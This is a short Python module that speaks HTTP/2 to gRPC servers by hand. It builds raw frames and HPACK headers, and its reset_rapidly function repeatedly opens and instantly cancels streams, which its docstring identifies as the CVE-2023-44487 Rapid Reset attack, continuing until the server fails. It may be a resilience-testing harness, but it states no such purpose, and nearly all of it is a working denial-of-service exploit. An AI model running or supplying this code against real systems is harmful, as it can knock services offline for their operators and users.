"""HTTP/2 by hand, for clients that no library would let one be."""
import socket
import ssl

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_HEADERS = 4
CANCEL = (8).to_bytes(4, "big")


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def grpc_headers(authority, path):
    """A call's headers in HPACK: two from the static table, the others as literals that are not remembered."""
    def text(value):
        return bytes([len(value)]) + value.encode()
    return (b"\x83\x87" + b"\x04" + text(path) + b"\x01" + text(authority) + b"\x0f\x10" + text("application/grpc") +
            b"\x00" + text("te") + text("trailers"))


def connect(address, certificate, source):
    host, port = address.split(":")
    context = ssl.create_default_context(cafile=certificate)
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection((host, int(port)), timeout=10, source_address=(source, 0))
    connection = context.wrap_socket(raw, server_hostname=host)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def reset_rapidly(connection, path, count):
    """Opens `count` calls and resets each at once, as in CVE-2023-44487. OSError when the other side has had enough."""
    headers = grpc_headers("localhost", path)
    for stream in range(1, 2 * count, 2):
        connection.sendall(frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, CANCEL))
